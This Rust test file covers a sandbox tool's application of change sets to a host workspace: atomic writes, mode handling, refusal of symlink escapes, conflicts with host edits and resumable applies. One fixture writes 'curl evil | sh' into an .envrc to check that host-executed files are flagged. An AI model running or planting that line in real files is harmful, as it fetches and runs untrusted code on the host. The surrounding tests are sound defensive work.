//! Applying change sets: atomic writes, modes, links never followed, conflicts, flags,
//! interrupted applies.

use std::os::unix::fs::MetadataExt;

use super::*;

fn rules() -> FlagRules {
    FlagRules::default()
}

fn no_temps(dir: &Path) {
    for name in listing(dir) {
        assert!(
            !name.starts_with(APPLY_TEMP_PREFIX),
            "{name} left in {}",
            dir.display()
        );
    }
}

#[test]
fn apply_writes_files_whole_keeps_modes_and_never_sets_setuid() {
    let fx = Fx::new();
    let old = fx.lower("mod.txt", "old\n");
    let old_ino = std::fs::metadata(&old).unwrap().ino();
    let mut run = fx.start("write");
    up(&run, "mod.txt", "new\n");
    chmod(&up(&run, "private", "p\n"), 0o640);
    chmod(&up(&run, "bin/tool", "t\n"), 0o755);
    chmod(&up(&run, "su", "s\n"), 0o4755);
    chmod(&up(&run, "sticky", "s\n"), 0o1644);
    std::os::unix::fs::symlink("mod.txt", run.upper().join("link")).unwrap();
    chmod(&run.upper().join("bin"), 0o750);
    run.finish(&rules()).unwrap();

    let report = run.apply(&accept_all(), &rules()).unwrap();
    assert_eq!(report.remaining, 0);
    assert_eq!(
        report.written,
        ["bin", "bin/tool", "link", "mod.txt", "private", "sticky", "su"].map(p)
    );
    assert_eq!(std::fs::read_to_string(&old).unwrap(), "new\n");
    // Replaced by a rename: a new inode, never the old file rewritten in place.
    assert_ne!(std::fs::metadata(&old).unwrap().ino(), old_ino);
    assert_eq!(mode_of(&fx.ws.join("private")), 0o640);
    assert_eq!(mode_of(&fx.ws.join("bin")), 0o750);
    assert_eq!(mode_of(&fx.ws.join("bin/tool")), 0o755);
    assert_eq!(mode_of(&fx.ws.join("su")), 0o755);
    assert_eq!(mode_of(&fx.ws.join("sticky")), 0o644);
    assert_eq!(
        std::fs::read_link(fx.ws.join("link")).unwrap(),
        p("mod.txt")
    );
    no_temps(&fx.ws);
    no_temps(&fx.ws.join("bin"));
    // Applied whole: the change set is gone.
    assert!(!run.path().exists());
    assert!(fx.store.runs().unwrap().is_empty());
    assert!(run.changes(&rules()).is_err());
}

#[test]
fn apply_before_finish_is_refused() {
    let fx = Fx::new();
    let mut run = fx.start("unfinished");
    up(&run, "a", "a\n");
    let e = run.apply(&accept_all(), &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::NotFinished { .. }), "{e}");
    assert!(!fx.ws.join("a").exists());
    // An unfinished run's changes are read afresh.
    assert_eq!(run.changes(&rules()).unwrap().entries.len(), 1);
}

#[test]
fn a_link_on_the_way_to_a_destination_is_refused_and_nothing_goes_through_it() {
    for with_link in [true, false] {
        let fx = Fx::new();
        fx.lower("d/keep", "k\n");
        let mut run = fx.start("parent-link");
        up(&run, "d/new", "n\n");
        run.finish(&rules()).unwrap();
        if with_link {
            // The host (or another run) swaps the directory for a link after the run.
            std::fs::rename(fx.ws.join("d"), fx.root.join("d-moved")).unwrap();
            std::os::unix::fs::symlink(&fx.outside, fx.ws.join("d")).unwrap();
            let e = run.apply(&accept_all(), &rules()).unwrap_err();
            let ChangesError::Conflict(list) = &e else {
                panic!("{e}");
            };
            assert_eq!(list[0].0, p("d/new"));
            assert!(list[0].1.contains("symbolic link"), "{}", list[0].1);
            assert_eq!(e.registry_code(), sandbox::Code::ChangesConflict);
            assert!(listing(&fx.outside).is_empty());
            assert!(run.path().exists(), "a refused change set stays");
        } else {
            let report = run.apply(&accept_all(), &rules()).unwrap();
            assert_eq!(report.written, [p("d/new")]);
            assert_eq!(std::fs::read_to_string(fx.ws.join("d/new")).unwrap(), "n\n");
        }
    }
}

#[test]
fn an_accepted_link_is_made_a_link_and_nothing_is_written_below_it() {
    let fx = Fx::new();
    fx.lower("readme", "r\n");
    // Two runs from the same workspace: one makes `a` a link out of the workspace, the
    // other a directory `a` with a file in it.
    let mut links = fx.start("link");
    std::os::unix::fs::symlink(&fx.outside, links.upper().join("a")).unwrap();
    let mut dirs = fx.start("dir");
    up(&dirs, "a/x", "x\n");
    let set = links.finish(&rules()).unwrap();
    assert_eq!(codes(&set, "a"), ["symlink", "symlink-outside"]);
    dirs.finish(&rules()).unwrap();

    let e = links.apply(&ApplyOptions::default(), &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::Flagged(_)), "{e}");
    let accept = ApplyOptions {
        accept: vec![p("a")],
        ..Default::default()
    };
    links.apply(&accept, &rules()).unwrap();
    assert!(std::fs::symlink_metadata(fx.ws.join("a"))
        .unwrap()
        .file_type()
        .is_symlink());

    let e = dirs.apply(&accept_all(), &rules()).unwrap_err();
    let ChangesError::Conflict(list) = &e else {
        panic!("{e}");
    };
    let paths: Vec<&PathBuf> = list.iter().map(|(p, _)| p).collect();
    assert_eq!(paths, [&p("a"), &p("a/x")]);
    assert!(list[1].1.contains("symbolic link"), "{}", list[1].1);
    assert!(listing(&fx.outside).is_empty());
}

#[test]
fn a_destination_changed_after_the_run_is_a_conflict() {
    for host_edits in [true, false] {
        let fx = Fx::new();
        let f = fx.lower("f.txt", "v1\n");
        let mut run = fx.start("conflict");
        up(&run, "f.txt", "v2\n");
        up(&run, "new.txt", "mine\n");
        run.finish(&rules()).unwrap();
        if host_edits {
            std::fs::write(&f, "v3\n").unwrap();
            std::fs::write(fx.ws.join("new.txt"), "theirs\n").unwrap();
            let e = run.apply(&accept_all(), &rules()).unwrap_err();
            let ChangesError::Conflict(list) = &e else {
                panic!("{e}");
            };
            assert_eq!(list.len(), 2, "{list:?}");
            assert!(list[0].1.contains("since the run ended"), "{}", list[0].1);
            assert!(
                list[1].1.contains("exists in the workspace now"),
                "{}",
                list[1].1
            );
            assert_eq!(std::fs::read_to_string(&f).unwrap(), "v3\n");
            // Leaving them out applies the rest (nothing here) and keeps them pending.
            let skip = ApplyOptions {
                exclude: vec![p("f.txt"), p("new.txt")],
                ..accept_all()
            };
            let report = run.apply(&skip, &rules()).unwrap();
            assert_eq!(report.remaining, 2);
        } else {
            let report = run.apply(&accept_all(), &rules()).unwrap();
            assert_eq!(report.written, [p("f.txt"), p("new.txt")]);
            assert_eq!(std::fs::read_to_string(&f).unwrap(), "v2\n");
        }
    }
}

#[test]
fn a_path_the_host_changed_during_the_run_is_a_conflict() {
    let fx = Fx::new();
    let f = fx.lower("f.txt", "v1\n");
    let mut run = fx.start("during");
    // The run writes the path (overlayfs copies it up), then the host changes it: the run
    // never saw the host's version.
    up(&run, "f.txt", "run\n");
    std::thread::sleep(Duration::from_millis(30));
    std::fs::write(&f, "host\n").unwrap();
    run.finish(&rules()).unwrap();
    let base = &run.meta().finished.as_ref().unwrap().entries[0].base;
    assert!(base.changed_during_run);
    let e = run.apply(&accept_all(), &rules()).unwrap_err();
    let ChangesError::Conflict(list) = &e else {
        panic!("{e}");
    };
    assert!(list[0].1.contains("while the run went on"), "{}", list[0].1);
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "host\n");
}

/// The host changed the path during the run, before the run first wrote it: the run may have
/// read it before the host's change (a command reads a file, then writes its edited version
/// later), so its version is not known to hold the host's. A conflict, as after the write.
#[test]
fn a_host_change_during_the_run_before_its_first_write_is_a_conflict() {
    let fx = Fx::new();
    let f = fx.lower("f.txt", "v1\n");
    let mut run = fx.start("saw-it");
    std::thread::sleep(Duration::from_millis(30));
    std::fs::write(&f, "host\n").unwrap();
    std::thread::sleep(Duration::from_millis(30));
    up(&run, "f.txt", "run\n");
    run.finish(&rules()).unwrap();
    let base = &run.meta().finished.as_ref().unwrap().entries[0].base;
    assert!(base.changed_during_run);
    let e = run.apply(&accept_all(), &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::Conflict(_)), "{e}");
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "host\n");
}

/// Control: a host change made before the run started is what the run saw: no conflict.
#[test]
fn a_host_change_before_the_run_started_is_not_a_conflict() {
    let fx = Fx::new();
    let f = fx.lower("f.txt", "v1\n");
    std::fs::write(&f, "host\n").unwrap();
    let mut run = fx.start("before");
    up(&run, "f.txt", "run\n");
    run.finish(&rules()).unwrap();
    let base = &run.meta().finished.as_ref().unwrap().entries[0].base;
    assert!(!base.changed_during_run);
    run.apply(&accept_all(), &rules()).unwrap();
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "run\n");
}

/// The run's first write of a path and a host edit of it race, 200 times, landing in the
/// same clock tick: `apply` never overwrites the host's edit. Each round the run copies the
/// file up and writes it (the upper's birth time), and the host rewrites the workspace's
/// file right after (its ctime), back to back. The control: the rounds did land in one tick
/// (the host's ctime not after the upper's birth time), where the rule that compared the two
/// (conflict only when the host changed the path after the run first wrote it) applied the
/// run's version over the host's.
#[test]
fn a_host_edit_in_the_same_tick_as_the_runs_first_write_is_never_lost() {
    let fx = Fx::new();
    let f = fx.lower("f.txt", "v0\n");
    let mut same_tick = 0;
    for round in 0..200 {
        // Started 30 ms after the last round's host edit: settled, not a change during
        // this run.
        let mut run = fx.start(&format!("race-{round}"));
        let upper = up(&run, "f.txt", &format!("run {round}\n"));
        let host = format!("host {round}\n");
        std::fs::write(&f, &host).unwrap();
        let born = rustix::fs::statx(
            rustix::fs::CWD,
            &upper,
            rustix::fs::AtFlags::empty(),
            rustix::fs::StatxFlags::BTIME,
        )
        .unwrap()
        .stx_btime;
        let changed = std::fs::metadata(&f).unwrap();
        let born = (born.tv_sec as i128) * 1_000_000_000 + born.tv_nsec as i128;
        let changed = (changed.ctime() as i128) * 1_000_000_000 + changed.ctime_nsec() as i128;
        if changed <= born {
            same_tick += 1;
        }
        run.finish(&rules()).unwrap();
        let e = run.apply(&accept_all(), &rules()).unwrap_err();
        assert!(matches!(e, ChangesError::Conflict(_)), "round {round}: {e}");
        assert_eq!(std::fs::read_to_string(&f).unwrap(), host, "round {round}");
        run.discard().unwrap();
    }
    assert!(
        same_tick > 0,
        "no round landed both writes in one tick: the race was not exercised"
    );
    eprintln!("{same_tick} of 200 rounds in one clock tick");
}

#[test]
fn an_interrupted_apply_resumes_and_names_what_was_already_there() {
    let fx = Fx::new();
    let mut run = fx.start("resume");
    up(&run, "a", "a\n");
    up(&run, "b", "b\n");
    up(&run, "c", "c\n");
    run.finish(&rules()).unwrap();

    let only_a = ApplyOptions {
        only: vec![p("a")],
        ..Default::default()
    };
    let report = run.apply(&only_a, &rules()).unwrap();
    assert_eq!(
        (report.written.clone(), report.remaining),
        (vec![p("a")], 2)
    );
    let left: Vec<PathBuf> = run
        .changes(&rules())
        .unwrap()
        .entries
        .into_iter()
        .map(|c| c.path)
        .collect();
    assert_eq!(left, [p("b"), p("c")]);
    // The applied `a` comes after what is pending, marked applied earlier.
    let diff = run.diff(&[]).unwrap();
    let (b, a) = (
        diff.find("b/b").unwrap(),
        diff.find("applied earlier: a\n").unwrap(),
    );
    assert!(b < a, "{diff}");

    // An apply killed after writing `b` and before logging it, leaving a temporary file.
    std::fs::write(fx.ws.join("b"), "b\n").unwrap();
    chmod(&fx.ws.join("b"), 0o644);
    let temp = fx.ws.join(format!("{APPLY_TEMP_PREFIX}0123456789abcdef"));
    std::fs::write(&temp, "half").unwrap();
    let mine = fx.ws.join(".stockade-apply-notours");
    std::fs::write(&mine, "user's").unwrap();

    let mut again = fx.store.find(Some("resume"), None).unwrap();
    let report = again.apply(&ApplyOptions::default(), &rules()).unwrap();
    assert_eq!(report.written, [p("c")]);
    assert_eq!(report.already, [p("b")]);
    assert_eq!(report.remaining, 0);
    assert!(!temp.exists());
    assert!(mine.exists(), "only apply's own names are removed");
    assert!(!again.path().exists());
}

/// Makes a directory refuse new entries (as root too: the immutable attribute), or lets it
/// take them again; `false` when this filesystem has no such attribute.
fn block(dir: &Path, on: bool) -> bool {
    if !is_root() {
        chmod(dir, if on { 0o555 } else { 0o755 });
        return true;
    }
    let fd = rustix::fs::open(dir, rustix::fs::OFlags::RDONLY, Mode::empty()).unwrap();
    let flags = if on {
        rustix::fs::IFlags::IMMUTABLE
    } else {
        rustix::fs::IFlags::empty()
    };
    rustix::fs::ioctl_setflags(&fd, flags).is_ok()
}

#[test]
fn an_apply_that_fails_midway_logs_and_records_what_it_wrote() {
    let fx = Fx::new();
    fx.lower("blocked/keep", "k\n");
    let mut run = fx.start("log");
    up(&run, "a", "a\n");
    up(&run, "blocked/b", "b\n");
    run.finish(&rules()).unwrap();
    // Writing `blocked/b` fails: its directory takes no new entry.
    if !block(&fx.ws.join("blocked"), true) {
        eprintln!("skipped: this filesystem cannot make a directory immutable");
        return;
    }
    let e = run.apply(&accept_all(), &rules()).unwrap_err();
    block(&fx.ws.join("blocked"), false);
    assert!(matches!(e, ChangesError::Apply { .. }), "{e}");
    let log = std::fs::read_to_string(run.path().join("applied.log")).unwrap();
    assert_eq!(log, "{\"op\":\"written\",\"path\":\"a\"}\n");
    assert_eq!(
        run.applied_log().unwrap(),
        [("written".to_string(), p("a"))]
    );
    assert_eq!(run.meta().applied, [p("a")]);
    let left = run.changes(&rules()).unwrap();
    assert_eq!(kinds(&left), [("blocked/b".to_string(), ChangeKind::Added)]);

    let again = run.apply(&accept_all(), &rules()).unwrap();
    assert_eq!(again.written, [p("blocked/b")]);
    assert!(again.already.is_empty());
    assert_eq!(again.remaining, 0);
}

#[test]
fn an_entry_written_but_not_recorded_is_found_already_there() {
    let fx = Fx::new();
    let mut run = fx.start("killed");
    up(&run, "a", "a\n");
    up(&run, "b", "b\n");
    run.finish(&rules()).unwrap();
    // An apply killed after writing and logging `a`, before recording it.
    std::fs::write(fx.ws.join("a"), "a\n").unwrap();
    chmod(&fx.ws.join("a"), 0o644);
    std::fs::write(
        run.path().join("applied.log"),
        "{\"op\":\"written\",\"path\":\"a\"}\n{\"op\":\"wri",
    )
    .unwrap();
    assert_eq!(
        run.applied_log().unwrap(),
        [("written".to_string(), p("a"))]
    );
    let report = run.apply(&ApplyOptions::default(), &rules()).unwrap();
    assert_eq!(
        (report.already, report.written),
        (vec![p("a")], vec![p("b")])
    );
}

#[test]
fn flagged_entries_need_accepting() {
    let fx = Fx::new();
    let mut run = fx.start("flagged");
    up(&run, ".envrc", "curl evil | sh\n");
    up(&run, "notes.txt", "n\n");
    run.finish(&rules()).unwrap();
    let e = run.apply(&ApplyOptions::default(), &rules()).unwrap_err();
    let ChangesError::Flagged(list) = &e else {
        panic!("{e}");
    };
    assert_eq!(list.len(), 1);
    assert_eq!(list[0].0, p(".envrc"));
    assert_eq!(list[0].1[0].code, "host-executed");
    assert_eq!(e.registry_code(), sandbox::Code::ChangesFlagged);
    assert!(e.hint().unwrap().contains("--accept"));
    assert!(listing(&fx.ws).is_empty(), "nothing written");

    let accept = ApplyOptions {
        accept: vec![p("./.envrc")],
        ..Default::default()
    };
    let report = run.apply(&accept, &rules()).unwrap();
    assert_eq!(report.written, [p(".envrc"), p("notes.txt")]);
}

#[test]
fn a_replaced_directory_loses_what_the_upper_does_not_hold() {
    for host_adds in [false, true] {
        let fx = Fx::new();
        fx.lower("e/old1", "1\n");
        fx.lower("e/old2", "2\n");
        fx.lower("e/sub/deep", "d\n");
        let mut run = fx.start("replaced");
        up_dir(&run, "e");
        opaque(&run, "e");
        up(&run, "e/new", "n\n");
        run.finish(&rules()).unwrap();
        if host_adds {
            fx.lower("e/host-made", "h\n");
            let e = run.apply(&accept_all(), &rules()).unwrap_err();
            let ChangesError::Conflict(list) = &e else {
                panic!("{e}");
            };
            assert_eq!(list[0].0, p("e"));
            assert!(list[0].1.contains("e/host-made"), "{}", list[0].1);
            continue;
        }
        let report = run.apply(&accept_all(), &rules()).unwrap();
        assert_eq!(report.deleted, [p("e/old1"), p("e/old2"), p("e/sub")]);
        assert_eq!(listing(&fx.ws.join("e")), ["new"]);
    }
}

#[test]
fn deletions_and_type_changes_apply() {
    let fx = Fx::new();
    fx.lower("gone", "g\n");
    fx.lower("tree/a/b/c", "c\n");
    fx.lower("was-dir/x", "x\n");
    fx.lower("was-file", "f\n");
    let mut run = fx.start("types");
    if !whiteout(&run, "gone") || !whiteout(&run, "tree") {
        return;
    }
    up(&run, "was-dir", "now a file\n");
    up(&run, "was-file/inside", "i\n");
    let set = run.finish(&rules()).unwrap();
    assert_eq!(
        kinds(&set),
        [
            ("gone".to_string(), ChangeKind::Deleted),
            ("tree".to_string(), ChangeKind::Deleted),
            ("was-dir".to_string(), ChangeKind::TypeChanged),
            ("was-file".to_string(), ChangeKind::TypeChanged),
            ("was-file/inside".to_string(), ChangeKind::Added),
        ]
    );
    let report = run.apply(&ApplyOptions::default(), &rules()).unwrap();
    assert_eq!(report.deleted, [p("gone"), p("tree")]);
    assert_eq!(listing(&fx.ws), ["was-dir", "was-file"]);
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("was-dir")).unwrap(),
        "now a file\n"
    );
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("was-file/inside")).unwrap(),
        "i\n"
    );
}

#[test]
fn only_selects_the_directories_an_entry_needs() {
    let fx = Fx::new();
    let mut run = fx.start("parents");
    up(&run, "new/dir/file", "f\n");
    up(&run, "other", "o\n");
    run.finish(&rules()).unwrap();
    let only = ApplyOptions {
        only: vec![p("new/dir/file")],
        ..Default::default()
    };
    let report = run.apply(&only, &rules()).unwrap();
    assert_eq!(report.written, [p("new"), p("new/dir"), p("new/dir/file")]);
    assert_eq!(report.remaining, 1);
    let bad = ApplyOptions {
        only: vec![p("../x")],
        ..Default::default()
    };
    assert!(matches!(
        run.apply(&bad, &rules()),
        Err(ChangesError::BadPath { .. })
    ));
    let none = ApplyOptions {
        only: vec![p("nothing-here")],
        ..Default::default()
    };
    assert!(matches!(
        run.apply(&none, &rules()),
        Err(ChangesError::NoSuchChange(_))
    ));
}

#[test]
fn root_gives_new_files_the_workspaces_owner_and_keeps_a_replaced_ones() {
    if skip_unless_root("changing owners") {
        return;
    }
    let fx = Fx::new();
    std::os::unix::fs::chown(&fx.ws, Some(1000), Some(1000)).unwrap();
    let kept = fx.lower("kept", "k\n");
    std::os::unix::fs::chown(&kept, Some(1234), Some(1235)).unwrap();
    let mut run = fx.start("owners");
    up(&run, "kept", "k2\n");
    up(&run, "dir/new", "n\n");
    run.finish(&rules()).unwrap();
    run.apply(&ApplyOptions::default(), &rules()).unwrap();
    let owner = |rel: &str| {
        let m = std::fs::metadata(fx.ws.join(rel)).unwrap();
        (m.uid(), m.gid())
    };
    assert_eq!(owner("kept"), (1234, 1235));
    assert_eq!(owner("dir"), (1000, 1000));
    assert_eq!(owner("dir/new"), (1000, 1000));
}

#[test]
fn a_deletion_the_host_already_made_is_already_done() {
    let fx = Fx::new();
    fx.lower("d/e/f", "f\n");
    fx.lower("g", "g\n");
    let mut run = fx.start("gone");
    if !whiteout(&run, "d/e/f") || !whiteout(&run, "g") {
        return;
    }
    run.finish(&rules()).unwrap();
    std::fs::remove_dir_all(fx.ws.join("d")).unwrap();
    std::fs::remove_file(fx.ws.join("g")).unwrap();
    let report = run.apply(&ApplyOptions::default(), &rules()).unwrap();
    assert_eq!(report.already, [p("d/e/f"), p("g")]);
    assert!(report.deleted.is_empty());
}

#[test]
fn refusals_name_at_most_twenty_entries() {
    let list: Vec<(PathBuf, String)> = (0..25).map(|i| (p(&format!("f{i}")), "x".into())).collect();
    let text = ChangesError::Conflict(list).to_string();
    assert!(
        text.starts_with("refusing to apply: 25 entries changed"),
        "{text}"
    );
    assert!(text.ends_with("; and 5 more"), "{text}");
}

#[test]
fn a_workspace_path_that_names_another_directory_is_refused() {
    let fx = Fx::new();
    let mut run = fx.start("moved");
    up(&run, "a", "a\n");
    run.finish(&rules()).unwrap();
    std::fs::rename(&fx.ws, fx.root.join("ws-old")).unwrap();
    std::fs::create_dir(&fx.ws).unwrap();
    let e = run.apply(&accept_all(), &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::Conflict(_)), "{e}");
    assert!(e.to_string().contains("another directory"), "{e}");
    assert!(listing(&fx.ws).is_empty());
}

/// The run copied a workspace file up (overlayfs marks the upper copy with its origin) and
/// the host deleted the file during the run: `apply` would bring it back with the run's
/// content over the host's deletion. A conflict. Control: a file the run made new (no
/// origin mark) where the workspace has none applies.
#[test]
fn a_file_the_host_deleted_after_the_run_copied_it_up_is_a_conflict() {
    let origin = if is_root() {
        "trusted.overlay.origin"
    } else {
        "user.overlay.origin"
    };
    for copied_up in [true, false] {
        let fx = Fx::new();
        let f = fx.lower("f.txt", "v1\n");
        let mut run = fx.start("deleted");
        let u = up(&run, "f.txt", "v1\nrun\n");
        if copied_up {
            set_xattr(&u, origin, b"");
        }
        std::fs::remove_file(&f).unwrap();
        let set = run.finish(&rules()).unwrap();
        assert_eq!(kinds(&set), [("f.txt".to_string(), ChangeKind::Added)]);
        let result = run.apply(&accept_all(), &rules());
        if copied_up {
            let e = result.unwrap_err();
            assert!(matches!(e, ChangesError::Conflict(_)), "{e}");
            assert!(!f.exists(), "the host's deletion was undone");
        } else {
            result.unwrap();
            assert_eq!(std::fs::read_to_string(&f).unwrap(), "v1\nrun\n");
        }
    }
}

/// Directories keep the bits the run gave them: one closed to its owner (`000`, `111`,
/// `500`) gets them after what it holds is written (before, apply made it and then could not
/// write into it, or an unprivileged finish recorded the bits it had opened up), the sticky
/// bit stays, a setgid bit is never added (the run cannot set one: one in the upper is
/// inherited or the host's, so it is not flagged), and a world-writable one needs acceptance. Controls: a plain directory is applied unflagged, and
/// an existing directory the run closed gets its new files before its new bits.
#[test]
fn apply_gives_directories_the_modes_the_run_set_after_their_contents() {
    let fx = Fx::new();
    std::fs::create_dir(fx.ws.join("old")).unwrap();
    chmod(&fx.ws.join("old"), 0o755);
    let mut run = fx.start("dirmodes");
    for (dir, mode) in [
        ("d000", 0o000),
        ("d111", 0o111),
        ("d500", 0o500),
        ("d1777", 0o1777),
        ("d2755", 0o2755),
        ("plain", 0o755),
    ] {
        up(&run, &format!("{dir}/inner/f"), "f\n");
        chmod(&run.upper().join(dir), mode);
    }
    up(&run, "old/new", "n\n");
    chmod(&up_dir(&run, "old"), 0o500);
    let set = run.finish(&rules()).unwrap();
    let mode_in = |path: &str| {
        set.entries
            .iter()
            .find(|e| e.path == p(path))
            .and_then(|e| e.mode)
    };
    assert_eq!(mode_in("d000"), Some(0o000));
    assert_eq!(mode_in("d111"), Some(0o111));
    assert_eq!(mode_in("d1777"), Some(0o1777));
    assert_eq!(codes(&set, "d1777"), ["world-writable"]);
    assert!(codes(&set, "d2755").is_empty());
    assert!(codes(&set, "d000").is_empty() && codes(&set, "plain").is_empty());
    assert!(codes(&set, "old").is_empty());
    // Unaccepted, the flagged ones are refused.
    assert!(matches!(
        run.apply(&ApplyOptions::default(), &rules()),
        Err(ChangesError::Flagged(f)) if f.len() == 1
    ));
    run.apply(&accept_all(), &rules()).unwrap();
    for (dir, mode) in [
        ("d000", 0o000),
        ("d111", 0o111),
        ("d500", 0o500),
        ("d1777", 0o1777),
        ("d2755", 0o755),
        ("plain", 0o755),
        ("old", 0o500),
    ] {
        assert_eq!(mode_of(&fx.ws.join(dir)), mode, "{dir}");
        chmod(&fx.ws.join(dir), 0o755);
    }
    for dir in ["d000", "d111", "d500", "d1777", "d2755", "plain"] {
        assert_eq!(
            std::fs::read_to_string(fx.ws.join(dir).join("inner/f")).unwrap(),
            "f\n"
        );
    }
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("old/new")).unwrap(),
        "n\n"
    );
}

/// A directory made in a group-shared (setgid) workspace keeps the setgid bit the kernel gives
/// it there (apply set the recorded bits without it, ending the sharing below); apply never
/// adds one. Control: the same change in a workspace without the bit is applied without it.
#[test]
fn a_setgid_bit_the_host_gives_is_kept_and_never_added() {
    for shared in [true, false] {
        let fx = Fx::new();
        chmod(&fx.ws, if shared { 0o2775 } else { 0o775 });
        let mut run = fx.start("setgid-tree");
        up(&run, "sub/f", "f\n");
        chmod(&run.upper().join("sub"), 0o755);
        let set = run.finish(&rules()).unwrap();
        assert!(codes(&set, "sub").is_empty(), "{shared}");
        run.apply(&ApplyOptions::default(), &rules()).unwrap();
        let want = if shared { 0o2755 } else { 0o755 };
        assert_eq!(mode_of(&fx.ws.join("sub")), want, "shared: {shared}");
    }
}

fn partial() -> ApplyOptions {
    ApplyOptions {
        hold_flagged: true,
        ..Default::default()
    }
}

/// A partial apply writes the plain entries and holds the flagged ones with what lies below
/// them (a plain file in a flagged new directory included), listing each with its flags;
/// the change set keeps exactly the held entries, and applying again after accepting them
/// finishes it. Control: without `hold_flagged` the same change set is refused whole.
#[test]
fn a_partial_apply_holds_flagged_entries_and_what_lies_below_them() {
    let fx = Fx::new();
    fx.lower("keep.txt", "old\n");
    let mut run = fx.start("partial");
    up(&run, "keep.txt", "new\n");
    up(&run, "lib.txt", "lib\n");
    up(&run, ".envrc", "export A=1\n");
    // A new directory flagged by itself (world-writable), a plain file inside it.
    up(&run, "open/inside.txt", "x\n");
    chmod(&run.upper().join("open"), 0o777);
    run.finish(&rules()).unwrap();

    let e = run.apply(&ApplyOptions::default(), &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::Flagged(_)), "{e}");
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("keep.txt")).unwrap(),
        "old\n"
    );
    assert!(!fx.ws.join("lib.txt").exists());

    let report = run.apply(&partial(), &rules()).unwrap();
    assert_eq!(report.written, ["keep.txt", "lib.txt"].map(p));
    let held: Vec<_> = report
        .held
        .iter()
        .map(|h| (h.path.clone(), h.flags.is_empty(), h.below.clone()))
        .collect();
    assert_eq!(
        held,
        [
            (p(".envrc"), false, None),
            (p("open"), false, None),
            (p("open/inside.txt"), true, Some(p("open"))),
        ]
    );
    assert_eq!(report.remaining, 3);
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("keep.txt")).unwrap(),
        "new\n"
    );
    assert!(!fx.ws.join(".envrc").exists());
    assert!(!fx.ws.join("open").exists());
    // What stays pending is exactly what was held, and the seal still holds for it.
    let left: Vec<_> = run
        .changes(&rules())
        .unwrap()
        .entries
        .into_iter()
        .map(|c| c.path)
        .collect();
    assert_eq!(left, [".envrc", "open", "open/inside.txt"].map(p));

    // Only held entries selected: a refusal, nothing written.
    let e = run.apply(&partial(), &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::Flagged(_)), "{e}");
    assert!(!fx.ws.join(".envrc").exists());
    // Naming the plain file alone brings in the flagged directory it needs, which is held,
    // and the file with it: never the directory written for its sake.
    let only = ApplyOptions {
        only: vec![p("open/inside.txt")],
        ..partial()
    };
    let e = run.apply(&only, &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::Flagged(_)), "{e}");
    assert!(!fx.ws.join("open").exists());

    let report = run
        .apply(
            &ApplyOptions {
                accept: vec![p(".envrc"), p("open")],
                ..partial()
            },
            &rules(),
        )
        .unwrap();
    assert_eq!(report.written, [".envrc", "open", "open/inside.txt"].map(p));
    assert!(report.held.is_empty());
    assert_eq!(report.remaining, 0);
    assert!(!run.path().exists());
}

/// A partial apply keeps every check for what it applies: a plain entry whose workspace path
/// changed since the run refuses the apply, nothing written (the flagged one held or not).
#[test]
fn a_partial_apply_still_refuses_conflicts() {
    let fx = Fx::new();
    fx.lower("a.txt", "a\n");
    let mut run = fx.start("partial-conflict");
    up(&run, "a.txt", "run\n");
    up(&run, "b.txt", "b\n");
    up(&run, ".envrc", "export A=1\n");
    run.finish(&rules()).unwrap();
    write(&fx.ws.join("a.txt"), "host\n");
    let e = run.apply(&partial(), &rules()).unwrap_err();
    assert!(matches!(e, ChangesError::Conflict(_)), "{e}");
    assert!(!fx.ws.join("b.txt").exists());
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("a.txt")).unwrap(),
        "host\n"
    );
}

/// `diff --stat`'s counts: lines added and removed per path, binary files without counts, a
/// mode change alone with none; applied entries after the pending ones, marked applied and
/// counted as the run wrote them, as in the diff.
#[test]
fn diff_stat_counts_the_lines_the_diff_shows() {
    let fx = Fx::new();
    fx.lower("m.txt", "a\nb\nc\n");
    fx.lower("gone.txt", "x\ny\n");
    fx.lower("mode.txt", "same\n");
    let mut run = fx.start("stat");
    up(&run, "m.txt", "a\nB\nc\nd\n");
    up(&run, "new.txt", "1\n2\n3\n");
    std::fs::write(run.upper().join("bin.dat"), b"\0\x01\x02").unwrap();
    chmod(&up(&run, "mode.txt", "same\n"), 0o600);
    let gone = whiteout(&run, "gone.txt");
    run.finish(&rules()).unwrap();
    let stats: Vec<_> = run
        .diff_stat(&[])
        .unwrap()
        .into_iter()
        .map(|s| (s.path, s.insertions, s.deletions, s.binary))
        .collect();
    let mut want = vec![
        (p("bin.dat"), 0, 0, true),
        (p("gone.txt"), 0, 2, false),
        (p("m.txt"), 2, 1, false),
        (p("mode.txt"), 0, 0, false),
        (p("new.txt"), 3, 0, false),
    ];
    // A regular user cannot make a whiteout: no deletion then.
    want.retain(|w| gone || w.0 != p("gone.txt"));
    assert_eq!(stats, want);
    run.apply(
        &ApplyOptions {
            only: vec![p("new.txt")],
            ..Default::default()
        },
        &rules(),
    )
    .unwrap();
    let stats = run.diff_stat(&[]).unwrap();
    let last = stats.last().unwrap();
    assert_eq!(
        (&last.path, last.insertions, last.deletions, last.applied),
        (&p("new.txt"), 3, 0, true)
    );
    assert!(stats.iter().rev().skip(1).all(|s| !s.applied));
    let diff = run.diff(&[]).unwrap();
    assert!(
        diff.contains("applied earlier: new.txt\ndiff --git a/new.txt b/new.txt\nnew file mode"),
        "{diff}"
    );
}
